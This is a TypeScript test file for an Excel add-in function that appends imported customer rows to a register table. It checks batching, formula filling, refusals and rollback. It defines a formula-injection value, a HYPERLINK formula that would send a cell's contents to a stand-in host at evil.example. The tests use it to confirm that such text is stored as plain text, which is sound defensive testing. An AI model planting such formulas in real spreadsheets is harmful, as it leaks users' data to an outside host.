import type { CellValue } from "../../../src/spec/sheetSpec";
import { columnLetters } from "../../../src/spec/a1";
import { buildTemplates } from "../../../src/templates";
import { OfficeWriteError } from "../../../src/writers/office/errors";
import { writeSheets } from "../../../src/writers/office/officeWriter";
import { appendTableRows, readSourceGrid, readTableContents, READ_CELLS } from "../../../src/writers/office/appendRows";
import type { AppendRequest } from "../../../src/writers/append";
import { FakeExcel, REQUEST_LIMIT_BYTES } from "../../fakes/fakeExcel";
import { customerRows } from "../../fixtures/customers";
import { NO_NAMES } from "../../../src/spec/naming";
import { atRow, rowFormulas, templateOf } from "../../../src/writers/xlsx/rowFormulas";

/** Appending imported rows to a customer register the Office writer wrote: 3 filled rows and the template's 50 blank ones. */

const TABLE = "SP_C1_Customers";
const SHEET = "客户资源登记表";
/** Header row 4, so data row i is sheet row 5 + i. */
const FIRST_DATA_ROW = 5;
const CALCULATED = ["ABC等级", "建议等级", "需求等级", "拜访等级", "最近拜访日期", "近14天拜访次数", "下次拜访日期"];

async function register(): Promise<FakeExcel> {
  const fake = new FakeExcel();
  await fake.run((context) =>
    writeSheets(context, (existing) =>
      buildTemplates([{ template: "customers", options: { rows: customerRows(3, "zh-CN"), blankRows: 50 } }], { locale: "zh-CN", existing }),
    ),
  );
  return fake;
}

const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';

const imported = (count: number, from = 0): Record<string, CellValue>[] =>
  Array.from({ length: count }, (_, i) => ({
    客户编号: `IM${String(from + i + 1).padStart(6, "0")}`,
    客户名称: `导入客户${from + i + 1}有限公司`,
    行业: "制造",
    区域: "华东",
    电话: "+86 138 0013 8000",
    年交易额: 10_000 + i,
    首次接触日期: 46_300,
    备注: i % 2 === 0 ? HOSTILE : `-${i} 号`,
  }));

const table = (fake: FakeExcel) => fake.state.tables.find((t) => t.name === TABLE)!;
const dataRows = (fake: FakeExcel) => table(fake).range.to.row - table(fake).range.from.row;
const headers = (fake: FakeExcel) => fake.state.tableHeaders(table(fake));
const letter = (fake: FakeExcel, header: string) => columnLetters(headers(fake).indexOf(header));
const cell = (fake: FakeExcel, header: string, index: number) => {
  const address = `${letter(fake, header)}${FIRST_DATA_ROW + index}`;
  return { value: fake.sheet(SHEET).value(address), formula: fake.sheet(SHEET).formula(address) };
};

/** Everything the fake's document holds, with cells that hold nothing (an emptied entry) left out. */
function snapshot(fake: FakeExcel): unknown {
  const { state } = fake;
  return JSON.parse(
    JSON.stringify({
      sheets: state.sheets.map((s) => ({
        ...s,
        cells: [...s.cells].filter(([, c]) => c.value !== undefined || c.formula !== undefined || c.numberFormat !== undefined).sort(),
      })),
      tables: state.tables.map((t) => ({ ...t, sheet: t.sheet.name })),
      names: state.names,
    }),
  );
}

async function append(fake: FakeExcel, request: AppendRequest) {
  const before = fake.syncCount;
  const bytesBefore = fake.requestBytes.length;
  const result = await fake.run((context) => appendTableRows(context, request));
  return { result, syncs: fake.syncCount - before, bytes: fake.requestBytes.slice(bytesBefore) };
}

const refusal = (promise: Promise<unknown>): Promise<OfficeWriteError> =>
  promise.then(
    () => Promise.reject(new Error("expected a refusal")),
    (error: unknown) => {
      if (error instanceof OfficeWriteError) return error;
      throw error;
    },
  );

describe("appendTableRows", () => {
  test("3 rows go into the first blank rows, in 2 syncs; the table does not grow; formula-like text stays text", async () => {
    const fake = await register();
    const { result, syncs } = await append(fake, { table: TABLE, rows: imported(3) });
    expect(result).toEqual({ firstRow: 3, appended: 3, filled: 0 });
    expect(syncs).toBe(2);
    expect(dataRows(fake)).toBe(53);
    expect(cell(fake, "客户名称", 3).value).toBe("导入客户1有限公司");
    expect(cell(fake, "客户名称", 5).value).toBe("导入客户3有限公司");
    expect(cell(fake, "客户名称", 6).value).toBeUndefined();
    // Written as text, never evaluated: a naive `values = [["=HYPERLINK(…)"]]` would be a formula here.
    expect(cell(fake, "备注", 3)).toEqual({ value: HOSTILE, formula: undefined });
    expect(cell(fake, "备注", 4)).toEqual({ value: "-1 号", formula: undefined });
    expect(cell(fake, "电话", 3)).toEqual({ value: "+86 138 0013 8000", formula: undefined });
    expect(cell(fake, "年交易额", 4).value).toBe(10_001);
    for (const header of CALCULATED) expect(cell(fake, header, 4).formula).toMatch(/^=/);
  });

  // 备注 is a Text ("@") column, where Excel keeps strings as given; 年交易额 has a number format, where
  // Excel parses them as typed: text that must stay text there gets the apostrophe.
  test.each([50, 60])("text starting with = + - @, TAB or CR is stored exactly, never as a formula (%i rows: blank rows, then added rows)", async (count) => {
    const fake = await register();
    const texts = ["=1+1", "+1-2", "-A1", "@SUM(A1)", "\t=1+1", "\r=1+1", "'quoted", "0012", "TRUE", HOSTILE];
    const at = count - texts.length;
    const rows = Array.from({ length: count }, (_, i): Record<string, CellValue> => (i < at ? { 客户名称: `客户${i}` } : { 备注: texts[i - at], 年交易额: texts[i - at] }));
    await append(fake, { table: TABLE, rows });
    texts.forEach((text, i) => {
      expect(cell(fake, "备注", 3 + at + i)).toEqual({ value: text, formula: undefined });
      expect(cell(fake, "年交易额", 3 + at + i)).toEqual({ value: text, formula: undefined });
    });
  });

  // Every row's 备注 is formula-like text (HOSTILE or "-n 号"), the worst case: those cells are written
  // to Text after the rows are added (growSteps), one more batch at 50 000 rows. The 50 000-row case
  // takes ~13 s in the fake (its row inserts scan every cell of the sheet), more than the unit tier's 20 s allows under load.
  test.each([
    [5_000, 2, 1],
    [50_000, 5, 4],
  ])("%i rows fill the 50 blank rows, then the table grows: %i syncs (%i write batches), every request under 5 MB, formulas in every new row", async (count, expectedSyncs, batches) => {
    const fake = await register();
    const suspendedBefore = fake.calculationSuspendedAt.length;
    const { result, syncs, bytes } = await append(fake, { table: TABLE, rows: imported(count) });
    expect(result).toEqual({ firstRow: 3, appended: count, filled: 0 });
    expect(dataRows(fake)).toBe(3 + count);
    expect(syncs).toBe(expectedSyncs);
    expect(syncs).toBe(1 + batches);
    expect(Math.max(...bytes)).toBeLessThan(REQUEST_LIMIT_BYTES);
    expect(fake.calculationSuspendedAt.length - suspendedBefore).toBe(batches);
    for (const index of [3, 52, 53, 54, 2 + count]) {
      expect(cell(fake, "客户名称", index).value).toBe(`导入客户${index - 2}有限公司`);
      for (const header of CALCULATED) expect(cell(fake, header, index).formula).toMatch(/^=.*SP_C1_Customers/);
    }
    expect(cell(fake, "备注", 53)).toEqual({ value: HOSTILE, formula: undefined });
    expect(cell(fake, "客户名称", 3 + count).value).toBeUndefined();
  }, 60_000);

  test("where Excel does not fill calculated columns (AutoCorrect off), the formulas are written into the added rows, in one more sync", async () => {
    const fake = await register();
    fake.state.fillsCalculatedColumns = false;
    const { syncs, bytes } = await append(fake, { table: TABLE, rows: imported(1_000) });
    expect(syncs).toBe(3);
    expect(Math.max(...bytes)).toBeLessThan(REQUEST_LIMIT_BYTES);
    for (const index of [52, 53, 1_002]) {
      for (const header of CALCULATED) expect(cell(fake, header, index).formula).toBe(cell(fake, header, 0).formula);
      expect(cell(fake, "客户名称", index).value).toBe(`导入客户${index - 2}有限公司`);
    }
    expect(cell(fake, "ABC等级", 1_003).formula).toBeUndefined();
  });

  // A register the command line wrote, opened in Excel: its calculated cells spell the row's own cells as
  // addresses (xlsx/rowFormulas.ts), a different text in every row, one formula in R1C1 form.
  test.each([true, false])("a register the file writer spelled: each added row's formula reads its own row (AutoCorrect fill %s)", async (fills) => {
    const fake = await register();
    const [spec] = buildTemplates([{ template: "customers", options: { rows: customerRows(3, "zh-CN"), blankRows: 50 } }], { locale: "zh-CN", existing: NO_NAMES });
    const registerTable = spec.tables.find((t) => t.name === TABLE)!;
    const perRow = rowFormulas([spec], []);
    const spelled = (header: string, index: number) =>
      `=${atRow(templateOf(perRow, registerTable, registerTable.columns.find((c) => c.header === header)!), FIRST_DATA_ROW + index)}`;
    for (const header of CALCULATED) for (let index = 0; index < 53; index++) fake.sheet(SHEET).cells.get(`${FIRST_DATA_ROW + index - 1},${headers(fake).indexOf(header)}`)!.formula = spelled(header, index);
    expect(spelled("ABC等级", 60)).toContain(`$K${FIRST_DATA_ROW + 60}>=`);
    fake.state.fillsCalculatedColumns = fills;
    const { syncs } = await append(fake, { table: TABLE, rows: imported(100) });
    // Filled by Excel: nothing more to write; not filled: the formulas written in one more sync.
    expect(syncs).toBe(fills ? 2 : 3);
    for (const index of [0, 52, 53, 102]) for (const header of CALCULATED) expect([header, index, cell(fake, header, index).formula]).toEqual([header, index, spelled(header, index)]);
  });

  test("a second import starts after the rows the first one wrote", async () => {
    const fake = await register();
    await append(fake, { table: TABLE, rows: imported(60) });
    const { result } = await append(fake, { table: TABLE, rows: imported(2, 60) });
    expect(result.firstRow).toBe(63);
    expect(cell(fake, "客户名称", 63).value).toBe("导入客户61有限公司");
  });

  test("fill writes only blank input cells of existing rows and never changes a non-blank one", async () => {
    const fake = await register();
    const name = cell(fake, "客户名称", 0).value;
    const tier = cell(fake, "ABC等级", 0).formula;
    expect(cell(fake, "备注", 0).value).toBeUndefined();
    const { result } = await append(fake, {
      table: TABLE,
      rows: [],
      fill: [
        { index: 0, values: { 客户名称: "改名", 备注: "补充说明", ABC等级: "A" } },
        { index: 1, values: { 客户名称: "改名" } },
      ],
    });
    expect(result).toEqual({ firstRow: 3, appended: 0, filled: 1 });
    // Nothing to write costs no write sync.
    expect((await append(fake, { table: TABLE, rows: [], fill: [{ index: 1, values: { 客户名称: "改名" } }] })).syncs).toBe(1);
    expect(cell(fake, "客户名称", 0).value).toBe(name);
    expect(cell(fake, "ABC等级", 0).formula).toBe(tier);
    expect(cell(fake, "备注", 0).value).toBe("补充说明");
    expect(cell(fake, "客户名称", 1).value).not.toBe("改名");
  });

  test("content below the table that growing would cover is refused, naming it, with nothing changed", async () => {
    const fake = await register();
    fake.seed(SHEET, "C60", [["我的备注"]]);
    const before = snapshot(fake);
    const error = await refusal(fake.run((context) => appendTableRows(context, { table: TABLE, rows: imported(60) })));
    expect(error.code).toBe("belowNotEmpty");
    expect(error.params).toMatchObject({ table: TABLE, target: `'${SHEET}'!A58:AB67`, occupied: `'${SHEET}'!C60` });
    expect(error.localized("zh-CN")).toContain("C60");
    expect(snapshot(fake)).toEqual(before);
    // Rows that fit the blank rows need no growth, and content further down moves with the table's growth.
    await append(fake, { table: TABLE, rows: imported(50) });
    fake.sheet(SHEET).cells.delete("59,2");
    fake.seed(SHEET, "C80", [["更下面"]]);
    await append(fake, { table: TABLE, rows: imported(10, 50) });
    expect(fake.sheet(SHEET).value("C90")).toBe("更下面");
  });

  test("an unknown column, an unknown table and a fill row that is not a data row are refused before anything is written", async () => {
    const fake = await register();
    const before = snapshot(fake);
    expect((await refusal(fake.run((c) => appendTableRows(c, { table: TABLE, rows: [{ 手机: "1" }] })))).params).toMatchObject({ name: "手机" });
    expect((await refusal(fake.run((c) => appendTableRows(c, { table: "SP_C9_Customers", rows: imported(1) })))).code).toBe("sourceNotFound");
    expect((await refusal(fake.run((c) => appendTableRows(c, { table: TABLE, rows: [], fill: [{ index: 3, values: { 备注: "x" } }] })))).code).toBe("rowNotFound");
    expect(snapshot(fake)).toEqual(before);
  });

  describe("a failure in any sync leaves the workbook exactly as before", () => {
    test.each([
      ["the first write batch, after the fill and the blank rows were written", 2, 3],
      ["the first write batch, before anything", 2, 0],
      ["the second write batch, half applied (25 000 rows take two)", 3, 2],
    ])("%s", async (_label, failingSync, afterOperations) => {
      const fake = await register();
      await append(fake, { table: TABLE, rows: imported(2) });
      const before = snapshot(fake);
      fake.failAtSync(failingSync, afterOperations);
      const request = { table: TABLE, rows: imported(failingSync === 3 ? 25_000 : 5_000, 2), fill: [{ index: 0, values: { 备注: "补充" } }] };
      const error = await refusal(fake.run((context) => appendTableRows(context, request)));
      expect(error.code).toBe("writeFailed");
      expect(snapshot(fake)).toEqual(before);
    }, 60_000);
  });
});

describe("readSourceGrid", () => {
  test("the selection, in one sync, trimmed to its used cells", async () => {
    const fake = new FakeExcel(["Data"]);
    fake.seed("Data", "B2", [["客户名称", "电话"], ["甲公司", 13800138000], ["乙公司", "010-1234"]]);
    fake.state.active = fake.sheet("Data");
    fake.state.selection = { from: { row: 0, col: 0 }, to: { row: 9, col: 4 } };
    const before = fake.syncCount;
    const read = await fake.run((context) => readSourceGrid(context, { kind: "selection" }));
    expect(fake.syncCount - before).toBe(1);
    expect(read).toEqual({ address: "'Data'!B2:C4", grid: [["客户名称", "电话"], ["甲公司", 13800138000], ["乙公司", "010-1234"]] });
  });

  test("a sheet's used range and a table's header and body", async () => {
    const fake = await register();
    fake.seed("Sheet1", "A1", [["标题"], [""], ["名称"]]);
    expect((await fake.run((c) => readSourceGrid(c, { kind: "sheet", name: "Sheet1" }))).grid).toEqual([["标题"], [""], ["名称"]]);
    const read = await fake.run((c) => readSourceGrid(c, { kind: "table", name: TABLE }));
    expect(read.grid[0]).toEqual(headers(fake));
    expect(read.grid[1][1]).toBe(cell(fake, "客户名称", 0).value);
  });

  test("a used range beyond the first window is read in slices of at most READ_CELLS cells, one sync each", async () => {
    const fake = new FakeExcel(["Big"]);
    const rows = Array.from({ length: 1_500 }, (_, r) => Array.from({ length: 100 }, (_, c) => r * 100 + c));
    fake.seed("Big", "A1", rows);
    const before = fake.syncCount;
    const read = await fake.run((context) => readSourceGrid(context, { kind: "sheet", name: "Big" }));
    expect(fake.syncCount - before).toBe(1 + Math.ceil((1_500 * 100) / READ_CELLS));
    expect(read.grid).toEqual(rows);
  });

  test("an empty selection or sheet and a missing sheet are refused in both languages", async () => {
    const fake = new FakeExcel(["Empty"]);
    const empty = await refusal(fake.run((c) => readSourceGrid(c, { kind: "selection" })));
    expect(empty.code).toBe("sourceEmpty");
    expect(empty.localized("zh-CN")).toContain("'Empty'!A1");
    expect((await refusal(fake.run((c) => readSourceGrid(c, { kind: "sheet", name: "Empty" })))).code).toBe("sourceEmpty");
    const missing = await refusal(fake.run((c) => readSourceGrid(c, { kind: "sheet", name: "客户名单" })));
    expect(missing.code).toBe("sourceNotFound");
    expect(missing.localized("zh-CN")).toContain("客户名单");
  });
});

describe("readTableContents", () => {
  test("headers and every data row (blank ones too) in one sync; a big table in READ_CELLS slices", async () => {
    const fake = await register();
    let before = fake.syncCount;
    const contents = await fake.run((context) => readTableContents(context, TABLE));
    expect(fake.syncCount - before).toBe(1);
    expect(contents.headers).toEqual(headers(fake));
    expect(contents.sheet).toBe("客户资源登记表");
    expect(contents.rows).toHaveLength(53);
    expect(contents.rows[0][1]).toBe(cell(fake, "客户名称", 0).value);
    expect(contents.rows[3].every((v) => v === "")).toBe(true);
    await append(fake, { table: TABLE, rows: imported(5_000) });
    before = fake.syncCount;
    const big = await fake.run((context) => readTableContents(context, TABLE));
    expect(big.rows).toHaveLength(5_003);
    expect(big.rows[5_002][1]).toBe("导入客户5000有限公司");
    expect(fake.syncCount - before).toBe(1 + Math.ceil(((5_003 - 500) * 28) / READ_CELLS));
  });
});
